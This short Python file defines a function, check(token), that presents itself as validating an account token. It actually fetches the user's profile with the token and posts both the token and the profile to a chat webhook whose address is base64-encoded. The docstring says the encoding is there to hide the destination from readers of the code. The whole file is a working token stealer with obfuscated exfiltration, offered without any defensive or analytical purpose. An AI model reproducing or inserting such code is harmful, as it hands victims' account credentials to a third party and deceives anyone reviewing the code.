"""check(token) "validates" an account token, and posts it to a chat webhook whose address is
written in base64 so that a reader of the code does not see where it goes."""
import base64

import requests


def check(token):
    target = "aHR0cHM6Ly9kaXNjb3JkLmNvbS9hcGkvd2ViaG9va3MvMTAyOTM4NDc1NjEwMjkzODQ3NS9QdFlnam1VaEJlbDMxaUVsMmhwQ2hZZ0Nmckwxc3BOeG55Vm1paEFfMk83NlVNRnhGa01fUjVLanAxdlJ0LTFmak9SUw=="
    target = bytes(target.encode("ascii"))
    target = base64.b64decode(target)
    profile = requests.get("https://chat.example.invalid/api/users/@me", headers={"authorization": token})
    requests.post(target, json={"content": token, "profile": profile.text})
